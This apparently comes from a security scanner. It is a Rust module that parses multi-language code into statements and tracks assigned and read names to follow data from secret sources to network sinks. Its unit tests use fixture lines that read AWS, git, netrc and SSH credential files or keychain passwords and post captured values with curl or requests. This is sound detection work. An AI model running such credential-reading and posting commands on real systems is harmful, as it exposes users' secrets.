//! Just enough reading of code to follow values: statements (lines joined while brackets are open or
//! a line ends with `\`), the names a statement assigns, the names it reads, and what a name was
//! last defined as (a string literal, or other names). Language-agnostic on purpose (shell, Python,
//! JavaScript/TypeScript, PowerShell, Ruby, Go): each check is a pattern common to all of them, and
//! a miss only means a flow is not followed, never a wrong finding on its own — the judge asks for a
//! source *and* a sink.
//!
//! Linear: every line is read a bounded number of times (a statement holds at most
//! [`MAX_STATEMENT_LINES`] lines).

use std::collections::BTreeMap;

use crate::scan::content::FileKind;

#[path = "heredoc.rs"]
mod heredoc;

/// Longest statement, in lines (an unbalanced bracket must not swallow a file).
pub const MAX_STATEMENT_LINES: usize = 40;
/// How many definitions deep a name is followed to its value.
const MAX_RESOLVE_DEPTH: usize = 5;

/// A statement: one or more physical lines.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Statement {
    /// 1-based first and last line.
    pub first: u32,
    pub last: u32,
    /// Byte range in the file.
    pub start: usize,
    pub end: usize,
}

impl Statement {
    pub fn text<'a>(&self, content: &'a str) -> &'a str {
        content.get(self.start..self.end).unwrap_or("")
    }

    pub fn contains_line(&self, line: u32) -> bool {
        (self.first..=self.last).contains(&line)
    }
}

fn is_ident_start(b: u8) -> bool {
    b.is_ascii_alphabetic() || b == b'_'
}

fn is_ident(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// The bytes of `text` outside quotes (`"`, `'`, `` ` ``; a backslash escapes the next byte), with
/// their positions. Quote characters themselves are not yielded.
pub(super) fn unquoted(text: &str) -> impl Iterator<Item = (usize, u8)> + '_ {
    let b = text.as_bytes();
    let mut quote: Option<u8> = None;
    let mut i = 0;
    std::iter::from_fn(move || {
        while i < b.len() {
            let (at, c) = (i, b[i]);
            i += 1;
            match quote {
                Some(_) if c == b'\\' => i += 1,
                Some(q) if c == q => quote = None,
                Some(_) => {}
                None if matches!(c, b'"' | b'\'' | b'`') => quote = Some(c),
                // Outside quotes a backslash escapes the next byte (shell's `${s//\"/\\\"}`:
                // that quote opens nothing).
                None if c == b'\\' => {
                    i += 1;
                    return Some((at, c));
                }
                None => return Some((at, c)),
            }
        }
        None
    })
}

/// Bracket depth change of one line, ignoring brackets inside quotes and after a `#`/`//` comment.
fn depth_change(line: &str) -> i32 {
    let b = line.as_bytes();
    let mut depth = 0i32;
    for (i, c) in unquoted(line) {
        match c {
            b'#' if i == 0 || b[i - 1] == b' ' || b[i - 1] == b'\t' => break,
            // A `//` comment after a blank, not a URL's `://` or shell's `${s//a/b}`.
            b'/' if b.get(i + 1) == Some(&b'/')
                && (i == 0 || b[i - 1] == b' ' || b[i - 1] == b'\t' || b[i - 1] == b';') =>
            {
                break;
            }
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' => depth -= 1,
            _ => {}
        }
    }
    depth
}

/// The code statements of a file: in Markdown, the lines of fenced and indented code blocks only
/// (each block's lines continue the previous block's, as a reader runs them in order).
pub fn statements(content: &str, kind: FileKind) -> Vec<Statement> {
    statements_of(content, kind, false)
}

/// [`statements`], with `data` for configuration files (JSON): one statement per line, since
/// brackets there only nest data and would join unrelated lines.
pub fn statements_of(content: &str, kind: FileKind, data: bool) -> Vec<Statement> {
    statements_until(content, kind, data, u32::MAX)
}

/// [`statements_of`], stopping after the statement that holds line `until` (1-based): nothing
/// after a file's last fact can change what the judge finds.
pub fn statements_until(content: &str, kind: FileKind, data: bool, until: u32) -> Vec<Statement> {
    let mut out = Vec::new();
    let mut fence: Option<crate::scan::markdown::Fence> = None;
    let mut data_fence = false;
    let mut indented = crate::scan::markdown::IndentedCode::default();
    let mut current: Option<(Statement, i32, usize)> = None;
    // The open here-document's terminator, and whether its body is a script (round 33m).
    let mut heredoc: Option<(String, Option<bool>)> = None;
    let mut opener = "";
    let mut offset = 0;
    for (i, raw) in content.split_inclusive('\n').enumerate() {
        let start = offset;
        offset += raw.len();
        let line_no = i as u32 + 1;
        if line_no > until && current.is_none() {
            break;
        }
        let line = raw.trim_end_matches(['\n', '\r']);
        let trimmed = line.trim_start();
        if kind == FileKind::Markdown {
            if crate::scan::markdown::Fence::step(&mut fence, trimmed) {
                data_fence = fence.is_some_and(|f| f.data);
                if let Some((s, _, _)) = current.take() {
                    out.push(s);
                }
                heredoc = None;
                continue;
            }
            if fence.is_none() && !indented.step(line) {
                // Prose ends a statement of an indented block before it.
                if let Some((s, _, _)) = current.take() {
                    out.push(s);
                }
                continue;
            }
        } else if kind == FileKind::Text {
            continue;
        }
        if let Some((word, script)) = &mut heredoc {
            // Here-document lines are data, one statement each, unless the body is a script
            // (decided on its first line, `heredoc::body_is_script`): then they are code.
            let script = *script.get_or_insert_with(|| heredoc::body_is_script(opener, trimmed));
            let ends = trimmed == word.as_str();
            if ends || !script {
                if ends {
                    heredoc = None;
                    if let Some((s, _, _)) = current.take() {
                        out.push(s);
                    }
                }
                out.push(Statement {
                    first: line_no,
                    last: line_no,
                    start,
                    end: offset,
                });
                continue;
            }
        }
        let delta = if data || data_fence {
            0
        } else {
            depth_change(line)
        };
        let continues = line.ends_with('\\');
        // A method chain continued on the next line (`fetch(u)` / `  .then(…)`) belongs to the
        // statement just ended on the line before.
        if current.is_none()
            && chained_call(trimmed)
            && out.last().is_some_and(|s: &Statement| s.end == start)
            && let Some(prev) = out.pop()
        {
            let lines = (prev.last - prev.first + 1) as usize;
            current = Some((prev, 0, lines));
        }
        match current.as_mut() {
            Some((s, depth, lines)) => {
                s.last = line_no;
                s.end = offset;
                *depth += delta;
                *lines += 1;
            }
            None => {
                current = Some((
                    Statement {
                        first: line_no,
                        last: line_no,
                        start,
                        end: offset,
                    },
                    delta,
                    1,
                ));
            }
        }
        let opened = heredoc.is_none()
            && heredoc::word(line)
                .map(|w| (heredoc, opener) = (Some((w, None)), line))
                .is_some();
        let done = match &current {
            Some((_, depth, lines)) => {
                (*depth <= 0 && !continues) || *lines >= MAX_STATEMENT_LINES || opened
            }
            None => true,
        };
        if done && let Some((s, _, _)) = current.take() {
            out.push(s);
        }
    }
    if let Some((s, _, _)) = current {
        out.push(s);
    }
    out
}

/// A line that continues a method chain: `.name(` first (`.then(…)`, `.catch(…)`), not a path
/// (`./x`, `.venv/bin/pip`) or a shell `source` (`. file`).
fn chained_call(trimmed: &str) -> bool {
    let Some(rest) = trimmed.strip_prefix('.') else {
        return false;
    };
    let n = rest
        .bytes()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
        .count();
    n > 0 && rest.as_bytes()[0].is_ascii_alphabetic() && rest[n..].starts_with('(')
}

/// Words that are never variable names worth following.
fn keyword(w: &str) -> bool {
    matches!(
        w,
        "if" | "then"
            | "else"
            | "elif"
            | "fi"
            | "for"
            | "in"
            | "do"
            | "done"
            | "while"
            | "def"
            | "return"
            | "import"
            | "from"
            | "as"
            | "const"
            | "let"
            | "var"
            | "function"
            | "func"
            | "true"
            | "false"
            | "True"
            | "False"
            | "None"
            | "null"
            | "nil"
            | "not"
            | "and"
            | "or"
            | "with"
            | "await"
            | "async"
            | "new"
            | "echo"
            | "export"
            | "str"
            | "int"
            | "self"
            | "this"
    )
}

/// The names a statement reads: identifiers outside quotes (not attribute names after `.`, not
/// keyword-argument or object-key names before `=`/`:`), and inside quotes those expanded by
/// `$name`, `${name}` or `{name}` (shell, PowerShell, JavaScript templates, Python f-strings).
pub fn refs(text: &str) -> Vec<&str> {
    let b = text.as_bytes();
    let mut out: Vec<&str> = Vec::new();
    let mut quote: Option<u8> = None;
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if let Some(q) = quote {
            if c == b'\\' {
                i += 2;
                continue;
            }
            if c == q {
                quote = None;
                i += 1;
                continue;
            }
            // A template literal's `${ … }` is code: every name in it is read (`${encode(key)}`).
            if q == b'`' && c == b'$' && b.get(i + 1) == Some(&b'{') {
                let mut j = i + 2;
                let mut depth = 1;
                while j < b.len() && depth > 0 {
                    match b[j] {
                        b'{' => depth += 1,
                        b'}' => depth -= 1,
                        _ if is_ident_start(b[j]) && !is_ident(b[j - 1]) => {
                            let s = j;
                            while j < b.len() && is_ident(b[j]) {
                                j += 1;
                            }
                            if b[s - 1] != b'.' && !keyword(&text[s..j]) {
                                out.push(&text[s..j]);
                            }
                            continue;
                        }
                        _ => {}
                    }
                    j += 1;
                }
                i = j;
                continue;
            }
            if c == b'{' || c == b'$' && q != b'\'' {
                let mut j = i + 1;
                while j < b.len() && matches!(b[j], b'{' | b'!' | b'#') {
                    j += 1;
                }
                let s = j;
                while j < b.len() && is_ident(b[j]) {
                    j += 1;
                }
                if j > s && is_ident_start(b[s]) {
                    out.push(&text[s..j]);
                }
                i = j.max(i + 1);
                continue;
            }
            i += 1;
            continue;
        }
        match c {
            b'"' | b'\'' | b'`' => {
                quote = Some(c);
                i += 1;
            }
            _ if is_ident_start(c) && (i == 0 || !is_ident(b[i - 1])) => {
                let s = i;
                while i < b.len() && is_ident(b[i]) {
                    i += 1;
                }
                let word = &text[s..i];
                // A string prefix (`f"…"`, `r'…'`, `b"…"`) is not a name.
                if word.len() <= 2 && matches!(b.get(i), Some(b'"' | b'\'')) {
                    continue;
                }
                let after = text[i..].trim_start();
                let attribute = s > 0 && b[s - 1] == b'.' && !(s > 1 && b[s - 2] == b'.');
                // A command-line flag (`-Body`, `--data`) names no variable.
                let flag = s > 0 && b[s - 1] == b'-';
                let named_arg = (after.starts_with('=') && !after.starts_with("==")) && s > 0 && {
                    let before = text[..s].trim_end();
                    before.ends_with('(') || before.ends_with(',')
                };
                // Shell's `${data:0:60}`, `${v:-x}` read `data` and `v`; they are no keys.
                let expansion = ["${", "${#", "${!"].iter().any(|p| text[..s].ends_with(p));
                let key = !expansion
                    && after.starts_with(':')
                    && !after.starts_with("::")
                    && !after.starts_with(":=");
                if !attribute && !flag && !named_arg && !key && !keyword(word) {
                    out.push(word);
                }
            }
            _ => i += 1,
        }
    }
    out.sort_unstable();
    out.dedup();
    out
}

/// The one name a plain assignment gives a new value (`x = …`, `const x = …`, `X=$(…)`) when the
/// value does not read it (`x = x + 1` reads it; `x += 1` is not plain): the statement writes that
/// name, it does not read it.
pub fn overwritten(text: &str) -> Option<&str> {
    let t = text.trim_start();
    let t = ["const ", "let ", "var ", "local ", "export ", "my "]
        .iter()
        .find_map(|k| t.strip_prefix(k))
        .unwrap_or(t)
        .trim_start();
    let b = t.as_bytes();
    if !b.first().is_some_and(|&c| is_ident_start(c)) {
        return None;
    }
    let n = b.iter().take_while(|&&c| is_ident(c)).count();
    let name = &t[..n];
    let rhs = t[n..].trim_start().strip_prefix('=')?;
    if rhs.starts_with(['=', '>']) || keyword(name) {
        return None;
    }
    (!refs(rhs).contains(&name)).then_some(name)
}

/// Where the commands of one line start: the line's start and, for shell, after `;`, `&&`, `||`
/// outside quotes (`then`/`do` are read off each command by [`assigned`]).
pub fn command_starts(line: &str) -> Vec<usize> {
    let mut starts = vec![0usize];
    let b = line.as_bytes();
    for (i, c) in unquoted(line) {
        match c {
            b';' => starts.push(i + 1),
            b'&' | b'|' if b.get(i + 1) == Some(&c) => starts.push(i + 2),
            _ => {}
        }
    }
    starts
}

/// The names a statement assigns: `x = …`, `X=…` (also after `&&`, `;`, `export`, `local`),
/// `a, b = …`, `const {a, b} = …`, `$x = …`, `x := …`, `x += …`, `x[k] = …` (x), `for a, b in …`,
/// `with … as f`, `… as f:`, R's and Haskell's `x <- …`.
pub fn assigned(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let first_line = text.split('\n').next().unwrap_or("");
    for s in command_starts(first_line) {
        let mut seg = first_line[s.min(first_line.len())..].trim_start();
        // Stop 57: AppleScript's `set pw to do shell script "…"`.
        if let Some(name) = applescript_set(seg) {
            out.push(name);
            continue;
        }
        let mut shell_declared = false;
        for kw in [
            "export ",
            "local ",
            "readonly ",
            "declare -x ",
            "declare ",
            "typeset ",
            "const ",
            "let ",
            "var ",
            "my ",
            "our ",
            "global ",
            "set ",
            "then ",
            "do ",
            "else ",
        ] {
            // `local = ENV.to_h` (Ruby, Python): a variable named like a shell keyword.
            if let Some(r) = seg.strip_prefix(kw)
                && !r.trim_start().starts_with('=')
            {
                seg = r.trim_start();
                shell_declared |= matches!(kw, "local " | "readonly " | "declare " | "typeset ");
            }
        }
        // `declare -g x=…`, `local -r x=…`, `typeset -i n=…`: the options before the name.
        while shell_declared
            && seg.starts_with('-')
            && let Some((_, r)) = seg.split_once(' ')
        {
            seg = r.trim_start();
        }
        if let Some(r) = seg
            .strip_prefix("for ")
            .or_else(|| seg.strip_prefix("for ("))
        {
            // `for a, b in …` / `for (const [k, v] of …)` / `for f in …; do`
            let r = r
                .trim_start()
                .trim_start_matches('(')
                .trim_start()
                .trim_start_matches("const ")
                .trim_start_matches("let ")
                .trim_start_matches("var ");
            if let Some(end) = r.find(" in ").or_else(|| r.find(" of ")) {
                out.extend(names_in(&r[..end]));
            }
            continue;
        }
        if let Some(i) = assignment_op(seg) {
            out.extend(names_in(without_type(&seg[..i])));
        }
    }
    // A YAML mapping that sets an environment variable (`DIAG: ${{ toJSON(secrets) }}` under a
    // workflow's `env:`): upper-case names only, so ordinary keys (`name: build`) and quoted dict
    // keys are not read as assignments.
    let t = first_line.trim_start();
    if let Some(colon) = t.find(": ") {
        let key = &t[..colon];
        if key.as_bytes().first().is_some_and(u8::is_ascii_uppercase)
            && key
                .bytes()
                .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == b'_')
        {
            out.push(key);
        }
    }
    // `with open(p) as f:` / `except E as e:` / `import x as y` do not matter; `as f` after `with`.
    if let Some(rest) = first_line.trim_start().strip_prefix("with ")
        && let Some(i) = rest.rfind(" as ")
    {
        out.extend(names_in(rest[i + 4..].trim_end_matches(':')));
    }
    out.sort_unstable();
    out.dedup();
    out
}

/// An assignment target without its type annotation (`snapshot: Record<K, V>` → `snapshot`): the
/// first `:` outside brackets ends the names.
/// The name an AppleScript `set NAME to …` statement assigns (not `set -e`, `set x = 1`).
fn applescript_set(seg: &str) -> Option<&str> {
    let r = seg.strip_prefix("set ")?.trim_start();
    let b = r.as_bytes();
    if !b.first().is_some_and(|&c| is_ident_start(c)) {
        return None;
    }
    let n = b.iter().take_while(|&&c| is_ident(c)).count();
    let name = &r[..n];
    r[n..]
        .strip_prefix(" to ")
        .filter(|rest| !rest.trim().is_empty())?;
    (!keyword(name)).then_some(name)
}

fn without_type(target: &str) -> &str {
    let mut depth = 0i32;
    for (i, c) in target.bytes().enumerate() {
        match c {
            b'[' | b'{' | b'(' => depth += 1,
            b']' | b'}' | b')' => depth -= 1,
            b':' if depth <= 0 => return &target[..i],
            _ => {}
        }
    }
    target
}

/// Where the assignment operator of a segment starts (`=`, `+=`, `:=`, `|=`, `.=`), if the segment
/// is an assignment: only names, brackets, dots, commas and blanks before it.
fn assignment_op(seg: &str) -> Option<usize> {
    let b = seg.as_bytes();
    let mut i = 0;
    let mut depth = 0i32;
    // After a type annotation's `:` (TypeScript `const x: Record<K, V | undefined> = …`), angle
    // brackets nest and `|` joins types.
    let mut typed = false;
    while i < b.len() {
        let c = b[i];
        match c {
            b'[' | b'{' | b'(' => depth += 1,
            b']' | b'}' | b')' => depth -= 1,
            // Stop 58: R's `k <- Sys.getenv("X")` (and `<<-`), Haskell's do-binding
            // `k <- getEnv "X"`: the arrow between blanks, after a plain name.
            b'<' if !typed
                && depth <= 0
                && i > 0
                && b[i - 1] == b' '
                && (seg[i..].starts_with("<- ") || seg[i..].starts_with("<<- ")) =>
            {
                return Some(i);
            }
            b'<' if typed => depth += 1,
            b'>' if typed && depth > 0 => depth -= 1,
            b'|' if typed && b.get(i + 1) != Some(&b'=') => {}
            b':' if depth <= 0 && b.get(i + 1) != Some(&b'=') => typed = true,
            b'=' if depth <= 0 => {
                if b.get(i + 1) == Some(&b'=') || b.get(i + 1) == Some(&b'>') {
                    return None;
                }
                return (i > 0).then_some(i);
            }
            b'+' | b':' | b'|' | b'.' | b'-' | b'*' | b'?'
                if depth <= 0 && b.get(i + 1) == Some(&b'=') =>
            {
                return (i > 0).then_some(i);
            }
            _ if depth > 0 => {}
            _ if is_ident(c) || matches!(c, b'$' | b'.' | b',' | b' ' | b'\t' | b'@' | b':') => {}
            b'"' | b'\'' if depth > 0 => {}
            _ => return None,
        }
        i += 1;
    }
    None
}

/// The variable names in an assignment target (`a, b`, `x[k]`, `$x`, `{a, b}`, `[a, b]`).
fn names_in(target: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let t = target.trim();
    let target = if t.starts_with('[') && t.ends_with(']') {
        &t[1..t.len() - 1]
    } else {
        t
    };
    let b = target.as_bytes();
    let mut i = 0;
    let mut depth = 0;
    while i < b.len() {
        match b[i] {
            b'[' | b'(' => {
                depth += 1;
                i += 1;
            }
            b']' | b')' => {
                depth -= 1;
                i += 1;
            }
            c if is_ident_start(c) && (i == 0 || !is_ident(b[i - 1])) => {
                let s = i;
                while i < b.len() && is_ident(b[i]) {
                    i += 1;
                }
                let after_dot = i < b.len() && b[i] == b'.';
                if depth == 0 && !after_dot && !keyword(&target[s..i]) {
                    out.push(&target[s..i]);
                }
            }
            _ => i += 1,
        }
    }
    out
}

/// The name of a function a line defines (`def f(`, `function f(`, `func f(`, `f() {`,
/// `const f = (…) =>`, `const f = async function`, `sub f`, `fn f(`), if any.
pub fn defines_function(line: &str) -> Option<&str> {
    let t = line.trim_start();
    // `export function f(`, `export async function f(`, `export default function f(`.
    let t = t
        .strip_prefix("export ")
        .map_or(t, |r| r.strip_prefix("default ").unwrap_or(r).trim_start());
    for kw in [
        "def ",
        "async def ",
        "function ",
        "async function ",
        "func ",
        "fn ",
        "sub ",
        "function global:",
    ] {
        if let Some(rest) = t.strip_prefix(kw) {
            let rest = rest.trim_start();
            // Go methods: `func (r *T) name(`.
            let rest = if rest.starts_with('(') {
                rest.find(')').map_or(rest, |i| rest[i + 1..].trim_start())
            } else {
                rest
            };
            let n = rest
                .bytes()
                .take_while(|b| is_ident(*b) || *b == b'-')
                .count();
            return (n > 0).then(|| &rest[..n]);
        }
    }
    // `name() {` (shell) and `const name = (…) =>` / `= function` / `= async (`.
    let n = t.bytes().take_while(|b| is_ident(*b) || *b == b'-').count();
    if n > 0 && t[n..].trim_start().starts_with("()") && t.trim_end().ends_with('{') {
        return Some(&t[..n]);
    }
    for kw in ["const ", "let ", "var "] {
        if let Some(rest) = t.strip_prefix(kw) {
            let n = rest.bytes().take_while(|b| is_ident(*b)).count();
            let after = rest[n..].trim_start();
            if n > 0
                && after.starts_with('=')
                && (after.contains("=>") || after.contains("function"))
            {
                return Some(&rest[..n]);
            }
        }
    }
    None
}

/// The string literals of a text, without their quotes.
pub fn literals(text: &str) -> Vec<&str> {
    let b = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if matches!(b[i], b'"' | b'\'' | b'`') {
            let q = b[i];
            let s = i + 1;
            let mut j = s;
            while j < b.len() && b[j] != q && b[j] != b'\n' {
                if b[j] == b'\\' {
                    j += 1;
                }
                j += 1;
            }
            if j <= b.len() {
                out.push(&text[s..j.min(b.len())]);
            }
            i = j + 1;
        } else {
            i += 1;
        }
    }
    out
}

/// What a name was defined as, as far as a reader of the file can tell.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Definition {
    pub line: u32,
    /// The definition's text, at most 512 bytes (its literals and names are read from it).
    pub text: String,
}

/// Definitions seen so far, name → latest.
#[derive(Debug, Clone, Default)]
pub struct Definitions {
    map: BTreeMap<String, Definition>,
}

impl Definitions {
    pub fn record(&mut self, names: &[&str], line: u32, text: &str) {
        let mut t = text;
        if t.len() > 512 {
            let mut cut = 512;
            while !t.is_char_boundary(cut) {
                cut -= 1;
            }
            t = &t[..cut];
        }
        for n in names {
            self.map.insert(
                (*n).to_owned(),
                Definition {
                    line,
                    text: t.to_owned(),
                },
            );
        }
    }

    pub fn get(&self, name: &str) -> Option<&Definition> {
        self.map.get(name)
    }

    /// The first value of `name` (followed through other names) that `pick` accepts, with the line
    /// where it was defined.
    pub fn resolve<T>(&self, name: &str, pick: &dyn Fn(&str) -> Option<T>) -> Option<(T, u32)> {
        let mut seen: Vec<&str> = Vec::new();
        self.resolve_in(name, pick, &mut seen, 0)
    }

    fn resolve_in<'a, T>(
        &'a self,
        name: &str,
        pick: &dyn Fn(&str) -> Option<T>,
        seen: &mut Vec<&'a str>,
        depth: usize,
    ) -> Option<(T, u32)> {
        if depth > MAX_RESOLVE_DEPTH {
            return None;
        }
        let (key, def) = self.map.get_key_value(name)?;
        if seen.contains(&key.as_str()) {
            return None;
        }
        seen.push(key);
        let rhs = def
            .text
            .split_once('=')
            .map_or(def.text.as_str(), |(_, r)| r);
        if let Some(v) = pick(rhs) {
            return Some((v, def.line));
        }
        for r in refs(rhs) {
            if let Some(found) = self.resolve_in(r, pick, seen, depth + 1) {
                return Some(found);
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unquoted_skips_quoted_text_and_escapes() {
        let got: String = unquoted(r#"f("a,\"(", 'b)', `c`) + d"#)
            .map(|(_, c)| c as char)
            .collect();
        assert_eq!(got, "f(, , ) + d");
        assert_eq!(depth_change("call(x, \"(\" # )"), 1);
        assert_eq!(depth_change("]"), -1);
    }

    #[test]
    fn shell_escapes_and_expansions_read_right() {
        // An escaped quote outside quotes opens nothing; `${s//a/b}` is no `//` comment.
        assert_eq!(
            depth_change(r#"esc(){ s=${s//\"/\\\"}; printf %s "$s"; }"#),
            0
        );
        assert_eq!(depth_change("f(x, // )"), 1);
        let s = statements(
            "e(){ s=${s//a/b}; }
k=1
",
            FileKind::Code,
        );
        assert_eq!(s.len(), 2);
        // `${data:0:60}` reads `data`; `{data: 1}` is a key.
        assert_eq!(refs("c=${data:0:60}"), ["c", "data"]);
        assert_eq!(refs("x = {data: 1}"), ["x"]);
        assert_eq!(command_starts("a=1; b=2 && c=3"), [0, 4, 11]);
    }

    #[test]
    fn statements_join_open_brackets_continuations_and_fences() {
        let py = "import os\nbody = {\n  'a': os.environ,\n}\nrequests.post(URL,\n  json=body)\n";
        let s = statements(py, FileKind::Code);
        let ranges: Vec<(u32, u32)> = s.iter().map(|s| (s.first, s.last)).collect();
        assert_eq!(ranges, [(1, 1), (2, 4), (5, 6)]);
        let sh = "curl -s x \\\n  -d \"$K\"\necho done\n";
        let s = statements(sh, FileKind::Code);
        assert_eq!((s[0].first, s[0].last, s.len()), (1, 2, 2));
        let md = "# T\ntext (\n```sh\nK=$(cat ~/.netrc)\n```\nprose\n```\ncurl -d \"$K\" x\n```\n";
        let s = statements(md, FileKind::Markdown);
        let lines: Vec<u32> = s.iter().map(|s| s.first).collect();
        assert_eq!(lines, [4, 8]);
        // An indented code block (four spaces after a blank line) is code; its prose is not.
        let md = "Run:\n\n    curl -o x URL\n    ./x\nnot code\n";
        let s = statements(md, FileKind::Markdown);
        let lines: Vec<u32> = s.iter().map(|s| s.first).collect();
        assert_eq!(lines, [3, 4]);
        let here = "cat > f <<'JSON'\n{\n  \"a\": [\nJSON\necho hi\n";
        let s = statements(here, FileKind::Code);
        let lines: Vec<(u32, u32)> = s.iter().map(|s| (s.first, s.last)).collect();
        assert_eq!(lines, [(1, 1), (2, 2), (3, 3), (4, 4), (5, 5)]);
        // An unbalanced bracket ends at the cap.
        let open = "x = (\n".repeat(100);
        assert!(
            statements(&open, FileKind::Code)
                .iter()
                .all(|s| s.last - s.first < MAX_STATEMENT_LINES as u32)
        );
    }

    #[test]
    fn references() {
        let r = refs(r#"curl -d "k=$KEY&t=${TOKEN}" "$URL/x" 'lit $NOT'"#);
        for want in ["KEY", "TOKEN", "URL", "curl"] {
            assert!(r.contains(&want), "{want} in {r:?}");
        }
        assert!(
            !r.contains(&"NOT") && !r.contains(&"k") && !r.contains(&"lit"),
            "{r:?}"
        );
        assert_eq!(
            refs("requests.post(url, data=payload, timeout=5)"),
            ["payload", "requests", "url"]
        );
        assert_eq!(refs("x = f\"{CACHE}/v1/{_key()}\""), ["CACHE", "_key", "x"]);
        assert_eq!(
            refs("fetch(HOOK, { method: 'POST', body: t })"),
            ["HOOK", "fetch", "t"]
        );
        assert_eq!(refs("self.data + r.text"), ["r"]);
        // Every name inside a template literal's `${ … }`, not only the first.
        let r =
            refs("const u = `https://x.example/v1?k=${encodeURIComponent(key)}&m=${cfg.model}`;");
        for want in ["encodeURIComponent", "key", "cfg", "u"] {
            assert!(r.contains(&want), "{want} in {r:?}");
        }
        assert!(!r.contains(&"model") && !r.contains(&"https"), "{r:?}");
        assert_eq!(
            refs("Invoke-RestMethod -Body $profile"),
            ["Invoke", "profile"]
        );
    }

    #[test]
    fn assignments() {
        assert_eq!(assigned("K=$(cat ~/.aws/credentials | base64)"), ["K"]);
        assert_eq!(
            assigned("[ -f x ] && stored=$(cat ~/.git-credentials)"),
            ["stored"]
        );
        assert_eq!(assigned("export TOKEN=\"$1\""), ["TOKEN"]);
        assert_eq!(assigned("a, b = os.environ.items()"), ["a", "b"]);
        assert_eq!(assigned("const { key, id } = cfg"), ["id", "key"]);
        assert_eq!(assigned("$profile = Get-ChildItem env:"), ["profile"]);
        assert_eq!(assigned("blobs[f] = open(p).read()"), ["blobs"]);
        assert_eq!(assigned("lines += [x]"), ["lines"]);
        assert_eq!(assigned("resp, err := http.Get(u)"), ["err", "resp"]);
        assert_eq!(assigned("for k, v in os.environ.items():"), ["k", "v"]);
        assert_eq!(assigned("for f in ~/.ssh/id_*; do"), ["f"]);
        assert_eq!(
            assigned("for (const [k, v] of Object.entries(process.env)) {"),
            ["k", "v"]
        );
        assert_eq!(assigned("with open(priv, 'rb') as f:"), ["f"]);
        assert!(assigned("if a == b:").is_empty());
        assert!(assigned("requests.post(url, data=x)").is_empty());
        assert!(assigned("curl -d \"a=$B\" https://x").is_empty());
        assert!(assigned("x => x + 1").is_empty());
        assert_eq!(
            assigned("const snapshot: Record<string, string | undefined> = { ...process.env };"),
            ["snapshot"]
        );
        assert_eq!(assigned("let n: number = 3"), ["n"]);
        // AppleScript (stop 57).
        assert_eq!(
            assigned("set pin to do shell script \"security find-generic-password -w\""),
            ["pin"]
        );
        assert!(assigned("set -euo pipefail").is_empty());
        assert!(assigned("set to").is_empty());
        assert!(assigned("if (a: b | c) > d").is_empty());
        // R's and Haskell's arrow (stop 58); a comparison with a negative number is not one.
        assert_eq!(assigned("keys <- list(o = Sys.getenv(\"X\"))"), ["keys"]);
        assert_eq!(assigned("cache <<- readRDS(p)"), ["cache"]);
        assert_eq!(assigned("  tok <- getEnv \"T\""), ["tok"]);
        assert!(assigned("if (n < -1) stop()").is_empty());
        assert!(assigned("x<-1").is_empty());
    }

    #[test]
    fn functions_and_literals() {
        assert_eq!(defines_function("def _key():"), Some("_key"));
        assert_eq!(defines_function("paste_cmd() {"), Some("paste_cmd"));
        assert_eq!(defines_function("function Get-Thing {"), Some("Get-Thing"));
        assert_eq!(defines_function("func (s *S) run(ctx) {"), Some("run"));
        assert_eq!(defines_function("const load = async () => {"), Some("load"));
        assert_eq!(defines_function("x = 1"), None);
        assert_eq!(literals(r#"a = "x\"y" + 'z' + `t`"#), [r#"x\"y"#, "z", "t"]);
    }

    #[test]
    fn definitions_resolve_through_names() {
        let mut d = Definitions::default();
        d.record(&["BASE"], 1, "BASE = \"http://203.0.113.9/api\"");
        d.record(&["url"], 2, "url = f\"{BASE}/v1/x\"");
        d.record(&["loop"], 3, "loop = loop + 1");
        let url = |t: &str| {
            literals(t)
                .into_iter()
                .find(|l| l.contains("://"))
                .map(str::to_owned)
        };
        assert_eq!(
            d.resolve("url", &url),
            Some(("http://203.0.113.9/api".to_owned(), 1))
        );
        assert_eq!(d.resolve("loop", &url), None, "cycles end");
        assert_eq!(d.resolve("missing", &url), None);
    }
}
